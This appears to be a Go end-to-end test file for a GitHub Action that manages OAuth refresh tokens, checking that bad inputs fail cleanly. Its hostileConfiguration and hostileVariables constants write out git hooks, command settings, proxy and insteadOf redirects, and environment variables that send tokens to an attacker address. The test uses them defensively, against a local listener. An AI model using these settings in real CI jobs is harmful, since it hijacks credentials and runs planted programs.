//go:build e2e

package e2e

import (
	"fmt"
	"maps"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"evergrant/e2e/forge"
)

const storeRef = "refs/evergrant/default"

// bad is something that is wrong with a job, with its repository, or with what
// surrounds them.
type bad struct {
	name   string
	before []string          // steps before the Action's
	inputs map[string]string // of the Action
	begun  bool              // the grant has a record
	spoil  func(t *testing.T, s *stage, r *run)
	code   int      // of the Action's step; 0: it succeeds all the same
	says   []string // what the one line has
	sends  int      // token requests
}

// TestActBadInput gives the Action what it cannot work with. Each time the log
// has one line that says what is wrong, and nothing is spent.
func TestActBadInput(t *testing.T) {
	started := time.Now()
	server := startServer(t, nil)
	table := badInput()
	refused, lived := 0, 0
	for _, b := range table {
		t.Run(b.name, func(t *testing.T) {
			s := newStage(t, server)
			before := uint64(0)
			if b.begun {
				before = s.begun(t)
				server.account(t)
			}
			steps := b.before
			if steps == nil {
				steps = []string{checkedOut}
			}
			s.commit(t, map[string]string{"README": "a commit more", plainPath: plainWorkflow(steps, b.inputs)})
			r := s.dispatched(before)
			if b.spoil != nil {
				b.spoil(t, s, r)
			}
			server.account(t)
			sent := s.requests()
			s.run(t, r)
			if s.requests()-sent != b.sends || s.twice() != 0 {
				t.Errorf("%d token requests, want %d; %d refresh tokens presented twice", s.requests()-sent, b.sends, s.twice())
			}
			if b.code == 0 {
				s.green(t, r)
				lived++
			} else {
				r.refuses(t, b.code, b.says)
				refused++
			}
			if a := server.account(t); a.revoked > 0 || a.failed > 0 || a.granted != b.sends {
				t.Errorf("the server counts %v", a.counts)
			}
			s.clean(t)
		})
	}
	if t.Failed() {
		return
	}
	part("%-19s %d kinds of bad input and bad surroundings: one line and nothing spent %d times, green all the same %d times (%.0f s)",
		"act, bad input", len(table), refused, lived, time.Since(started).Seconds())
}

// annotations are the errors that a step has annotated.
func (r *run) annotations() []string {
	return regexp.MustCompile(`::error[^\n]*`).FindAllString(r.log.String(), -1)
}

// refuses expects a run that the Action has ended with a code and one line.
func (r *run) refuses(t *testing.T, code int, says []string) {
	t.Helper()
	log := r.log.String()
	if r.code() == 0 || len(r.reports) != 0 || !strings.Contains(log, failed(code)) {
		t.Fatalf("want the step to end with code %d, and no consumer to run\n%s", code, r.told())
	}
	lines := r.annotations()
	if len(lines) != 1 {
		t.Fatalf("%d errors are annotated, want one\n%s", len(lines), r.told())
	}
	for _, text := range says {
		if !strings.Contains(lines[0], text) {
			t.Errorf("the line does not say %q: %s", text, lines[0])
		}
	}
	if n := strings.Count(log, "Summary - **evergrant** failed"); n != 1 {
		t.Errorf("the step's summary has %d lines\n%s", n, r.told())
	}
}

func badInput() []bad {
	return []bad{
		{name: "no key", code: 2, says: []string{"key"}, spoil: func(_ *testing.T, _ *stage, r *run) { delete(r.secrets, "EVERGRANT_KEY") }},
		{name: "no secrets at all", code: 2, says: []string{"secret"}, spoil: func(_ *testing.T, _ *stage, r *run) { clear(r.secrets) }},
		{name: "half a key", code: 2, says: []string{"key"}, spoil: func(_ *testing.T, s *stage, r *run) { r.secrets["EVERGRANT_KEY"] = s.key[:40] }},
		{name: "wrong key", begun: true, code: 6, says: []string{"another key"}, spoil: func(t *testing.T, s *stage, r *run) {
			r.secrets["EVERGRANT_KEY"] = s.otherKey(t)
		}},
		{name: "key of another grant", begun: true, code: 6, says: []string{"another key"}, spoil: func(t *testing.T, s *stage, r *run) {
			other := s.box(t)
			key := s.otherKey(t)
			other.set("EVERGRANT_KEY", key)
			other.unset("EVERGRANT_REFRESH_TOKEN")
			other.seeded(s.provider.consent(t, publicClient).Refresh)
			other.deliver(t, "other")
			r.secrets["EVERGRANT_KEY"] = key
		}},
		{name: "protected refs", code: 6, says: []string{"hook declined"}, spoil: func(t *testing.T, s *stage, _ *run) {
			asProgram(t, filepath.Join(s.bare, "hooks", "pre-receive"), "exit 1")
		}},
		{name: "refs protected since", begun: true, code: 6, says: []string{"hook declined"}, spoil: func(t *testing.T, s *stage, _ *run) {
			asProgram(t, filepath.Join(s.bare, "hooks", "pre-receive"), "exit 1")
		}},
		{name: "deleted ref, no-create", begun: true, inputs: map[string]string{"no-create": "true"}, code: 6, says: []string{"no-create"},
			spoil: func(t *testing.T, s *stage, r *run) {
				forge.Git(t, s.bare, "update-ref", "-d", storeRef)
				delete(r.vars, "AFTER") // which would notice it by itself
			}},
		{name: "foreign content in the ref", begun: true, code: 6, says: []string{"evergrant did not write"}, spoil: func(t *testing.T, s *stage, _ *run) {
			forge.Git(t, s.bare, "update-ref", storeRef, "refs/heads/main")
		}},
		{name: "record of another repository", begun: true, code: 6, says: []string{"?was="}, spoil: func(t *testing.T, s *stage, r *run) {
			other := filepath.Join(filepath.Dir(s.bare), "copy.git")
			forge.Git(t, "/", "clone", "--quiet", "--mirror", s.bare, other)
			forge.Git(t, other, "config", "http.receivepack", "true")
			r.env = map[string]string{"GITHUB_REPOSITORY": "acme/copy"}
		}},
		{name: "rolled back by force", begun: true, inputs: map[string]string{"min-generation": "3"}, code: 6, says: []string{"rolled back"},
			spoil: func(t *testing.T, s *stage, _ *run) {
				old := forge.Git(t, s.bare, "rev-parse", storeRef)
				s.begun(t, "--force")
				forge.Git(t, s.bare, "update-ref", storeRef, old)
			}},
		{name: "token that may only read", begun: true, code: 6, says: []string{"contents: write"}, spoil: func(_ *testing.T, s *stage, _ *run) {
			s.intercept(func(r *http.Request) int {
				if strings.Contains(r.URL.String(), "git-receive-pack") {
					return http.StatusForbidden
				}
				return 0
			})
		}},
		{name: "forge away", begun: true, code: 6, says: []string{"503"}, before: []string{"run: 'true'"}, inputs: map[string]string{"wait": "1s"}, spoil: func(_ *testing.T, s *stage, _ *run) {
			s.intercept(func(*http.Request) int { return http.StatusServiceUnavailable })
		}},
		{name: "no git", begun: true, code: 6, says: []string{"git is not installed"}, before: []string{"run: 'true'"}, spoil: func(t *testing.T, _ *stage, r *run) {
			r.path, r.noGit = only(t, "node", "bash", "sh"), true
		}},
		{name: "provider away", begun: true, inputs: map[string]string{"wait": "1s"}, code: 5, says: []string{"next try"},
			spoil: func(_ *testing.T, s *stage, _ *run) { s.shut() }},
		{name: "public repository", code: 2, says: []string{"allow-public"}, spoil: func(_ *testing.T, _ *stage, r *run) {
			r.payload.(map[string]any)["repository"].(map[string]any)["private"] = false
		}},
		{name: "input that is no truth value", inputs: map[string]string{"force": "perhaps"}, code: 2, says: []string{"force", "true or false"}},
		{name: "no checkout at all", before: []string{"run: 'true'"}, begun: true, sends: 1},
		{name: "shallow checkout", begun: true, sends: 1},
		{name: "hostile workspace", begun: true, before: []string{checkedOut, hostileConfiguration}, sends: 1, spoil: hostile},
		{name: "hostile job environment", begun: true, before: []string{checkedOut, hostileVariables}, sends: 1, spoil: hostile},
	}
}

func (s *stage) otherKey(t *testing.T) string {
	t.Helper()
	_, text, ok := strings.Cut(newBox(t).run(t, "key", "new").stdout, "AGE-SECRET-KEY-")
	if !ok {
		t.Fatal("evergrant key new printed no key")
	}
	text, _, _ = strings.Cut(text, "\n")
	return "AGE-SECRET-KEY-" + text
}

// intercept answers requests to the forge for which refuse names a status.
func (s *stage) intercept(refuse func(*http.Request) int) {
	s.forge.Intercept(func(w http.ResponseWriter, r *http.Request, next http.Handler) {
		if status := refuse(r); status != 0 {
			http.Error(w, "not now", status)
			return
		}
		s.api(w, r, next)
	})
}

// hostileConfiguration is what somebody can leave in a checkout whose files
// they may write, such as the author of a pull request: everything by which git
// runs a program or goes elsewhere.
const hostileConfiguration = `run: |
  for setting in core.fsmonitor core.sshCommand core.pager core.editor core.askPass credential.helper gpg.program \
    remote.origin.uploadpack remote.origin.receivepack remote.origin.vcs sequence.editor diff.external uploadpack.packObjectsHook \
    alias.push alias.fetch alias.ls-remote init.templateDir core.gitProxy core.alternateRefsCommand; do
    git config "$setting" "!$PLANTED $setting"
    git config --global "$setting" "!$PLANTED $setting"
  done
  git config "credential.helper" "!$PLANTED credential"
  git config "url.$EVIL/.insteadOf" "$GITHUB_SERVER_URL/"
  git config --global "url.$EVIL/.insteadOf" "$GITHUB_SERVER_URL/"
  git config --global http.proxy "$EVIL"
  git config --global http.extraHeader "X-Planted: yes"
  git config core.hooksPath hooks
  git config --global core.hooksPath "$PWD/hooks"
  mkdir -p hooks
  for hook in pre-push post-checkout post-commit reference-transaction post-index-change fsmonitor-watchman pre-commit; do
    printf '#!/bin/sh\n%s %s\n' "$PLANTED" "$hook" | tee "hooks/$hook" >".git/hooks/$hook"
    chmod +x "hooks/$hook" ".git/hooks/$hook"
  done
  echo '* filter=planted' >.gitattributes
  git config filter.planted.clean "$PLANTED clean"
  git config filter.planted.smudge "$PLANTED smudge"
  printf '#!/bin/sh\n%s evergrant\n' "$PLANTED" | tee evergrant >git
  chmod +x evergrant git`

// hostileVariables is what an earlier step can leave in the job's environment
// to send a token elsewhere, or to have git run a program.
const hostileVariables = `run: |
  {
    echo "EVERGRANT_TOKEN_URL=$EVIL/token"
    echo "EVERGRANT_STORE=git:$EVIL/acme/widgets"
    echo "EVERGRANT_PROVIDER=github"
    echo "EVERGRANT_CONFIG=$PWD/evil.yaml"
    echo "EVERGRANT_KEY=AGE-SECRET-KEY-1"
    echo "EVERGRANT_GRANT=other"
    echo "EVERGRANT_MIN_TTL=1h"
    echo "EVERGRANT_REFRESH_TOKEN=planted"
    echo "GIT_SSH_COMMAND=$PLANTED ssh"
    echo "GIT_ASKPASS=$PLANTED"
    echo "GIT_PROXY_COMMAND=$PLANTED"
    echo "GIT_EXEC_PATH=$PWD"
    echo "GIT_DIR=$PWD/.git"
    echo "GIT_CONFIG_COUNT=1"
    echo "GIT_CONFIG_KEY_0=url.$EVIL/.insteadOf"
    echo "GIT_CONFIG_VALUE_0=$GITHUB_SERVER_URL/"
    echo "GIT_TRACE_CURL=$PWD/trace"
    echo "GIT_TRACE=$PWD/trace"
    echo "HTTP_PROXY=$EVIL"
    echo "http_proxy=$EVIL"
    echo "ALL_PROXY=$EVIL"
    echo "BASH_ENV=$PLANTED"
  } >>"$GITHUB_ENV"`

// hostile prepares a program that notes each call, and a listener that notes
// each connection. Both are looked at when the run is over.
func hostile(t *testing.T, s *stage, r *run) {
	t.Helper()
	dir := t.TempDir()
	called := filepath.Join(dir, "called")
	planted := filepath.Join(dir, "planted")
	asProgram(t, planted, fmt.Sprintf("echo \"$0 $*\" >>%s", called))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	var connections atomic.Int64
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			connections.Add(1)
			_ = c.Close()
		}
	}()
	r.env = maps.Clone(r.env)
	if r.env == nil {
		r.env = map[string]string{}
	}
	r.env["PLANTED"], r.env["EVIL"] = planted, "http://"+l.Addr().String()
	t.Cleanup(func() {
		must(t, l.Close())
		calls, err := os.ReadFile(called)
		if err == nil {
			t.Errorf("planted programs ran:\n%s", calls)
		}
		if n := connections.Load(); n > 0 {
			t.Errorf("%d connections went to the planted address", n)
		}
		if exists(filepath.Join(r.left(), "workspace", "trace")) {
			t.Error("git wrote a trace, which has headers in it")
		}
	})
}
